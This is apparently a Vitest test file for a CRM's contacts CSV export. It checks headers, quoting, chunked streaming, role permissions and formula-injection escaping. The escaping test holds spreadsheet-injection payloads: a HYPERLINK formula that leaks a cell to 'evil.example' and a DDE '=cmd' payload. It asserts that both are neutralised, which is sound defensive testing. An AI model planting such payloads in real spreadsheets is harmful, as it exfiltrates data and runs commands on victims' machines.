import { describe, expect, it } from "vitest";
import { CONTACT_CSV_CHUNK, CONTACT_CSV_COLUMNS } from "../../worker/features/crm/contacts-csv-stream";
import { parseCsv } from "../activity/activity-helpers";
import { errorOf, signUp } from "../helpers/api";
import { createWorkspace, teammate } from "../helpers/workspaces";
import { contactsPath, createContact, seedContacts } from "./contact-helpers";

const HEADER = `${CONTACT_CSV_COLUMNS.join(",")}\r\n`;

describe("exporting contacts as CSV", () => {
  it("downloads every field of the filtered contacts, in the list's order, as a named file no cache keeps", async () => {
    const { client: me } = await signUp();
    const ws = await createWorkspace(me, "Export Co");
    const ada = await createContact(me, ws.id, {
      email: "ada@example.com",
      phone: "+44 20 7946 0958",
      company: "Analytical, Engines",
      position: 'The "Enchantress"',
      address: "12 St James's Square\nLondon",
      status: "customer",
      lead_score: 90,
      source: "referral",
      tags: ["vip", "math"],
      notes: "Line one\r\nLine two",
      last_contacted: "2026-01-02T10:00:00Z",
      next_follow_up: "2026-02-01T09:00:00Z",
    });
    await createContact(me, ws.id, { first_name: "Grace", last_name: "Hopper", status: "lead" });
    const res = await me.fetch(contactsPath(ws.id, "/export", { status: "customer" }));
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toMatch(
      new RegExp(`^attachment; filename="contacts-${ws.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    expect(res.headers.get("Cache-Control")).toBe("no-store");
    const text = await res.text();
    expect(text.startsWith(HEADER)).toBe(true);
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([...CONTACT_CSV_COLUMNS]);
    expect(records).toEqual([
      [
        ada.id,
        "Ada",
        "Lovelace",
        "ada@example.com",
        // A leading + is what a spreadsheet takes for a formula: it stays text.
        "'+442079460958",
        "Analytical, Engines",
        'The "Enchantress"',
        "12 St James's Square\nLondon",
        "customer",
        "90",
        "referral",
        "vip;math",
        "Line one\r\nLine two",
        "2026-01-02T10:00:00.000Z",
        "2026-02-01T09:00:00.000Z",
        ada.created_at,
        ada.updated_at,
      ],
    ]);
  });

  it("turns every cell a spreadsheet would run into text", async () => {
    const { client: me } = await signUp();
    const ws = await createWorkspace(me);
    const evil = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
    await createContact(me, ws.id, {
      first_name: evil,
      last_name: "@SUM(A1:A9)",
      company: "-2+3",
      position: "=cmd|' /C calc'!A0",
      source: "\t=1+1",
      notes: "+1 idea",
      tags: ["=1+1"],
    });
    const [, record] = parseCsv(await (await me.fetch(contactsPath(ws.id, "/export"))).text());
    const cell = (name: (typeof CONTACT_CSV_COLUMNS)[number]) => record![CONTACT_CSV_COLUMNS.indexOf(name)];
    expect(cell("first_name")).toBe(`'${evil}`);
    expect(cell("last_name")).toBe("'@SUM(A1:A9)");
    expect(cell("company")).toBe("'-2+3");
    expect(cell("position")).toBe("'=cmd|' /C calc'!A0");
    expect(cell("source")).toBe("'=1+1"); // the stored source is trimmed
    expect(cell("notes")).toBe("'+1 idea");
    expect(cell("tags")).toBe("'=1+1");
  });

  it("streams more contacts than one chunk, each once, in the asked order", async () => {
    const { client: me, user } = await signUp();
    const ws = await createWorkspace(me);
    const count = CONTACT_CSV_CHUNK + 7;
    await seedContacts(
      ws.id,
      user.id,
      Array.from({ length: count }, (_, i) => ({ first_name: `P${String(i).padStart(3, "0")}`, last_name: "Many" })),
    );
    const [, ...records] = parseCsv(
      await (await me.fetch(contactsPath(ws.id, "/export", { sort: "name", order: "desc" }))).text(),
    );
    expect(records.map((r) => r[1])).toEqual(
      Array.from({ length: count }, (_, i) => `P${String(count - 1 - i).padStart(3, "0")}`),
    );
  }, 30_000);

  it("needs crm.contacts.export: editors export, viewers and contributors do not", async () => {
    const { client: owner } = await signUp();
    const ws = await createWorkspace(owner);
    await createContact(owner, ws.id);
    for (const role of ["viewer", "contributor"] as const) {
      const person = await teammate(ws.id, role);
      const res = await person.client.fetch(contactsPath(ws.id, "/export"));
      expect(res.status).toBe(403);
      expect((await errorOf(res)).details).toMatchObject({ action: "crm.contacts.export" });
    }
    const editor = await teammate(ws.id, "editor");
    const res = await editor.client.fetch(contactsPath(ws.id, "/export"));
    expect(res.status).toBe(200);
    expect(parseCsv(await res.text())).toHaveLength(2);
  });
});
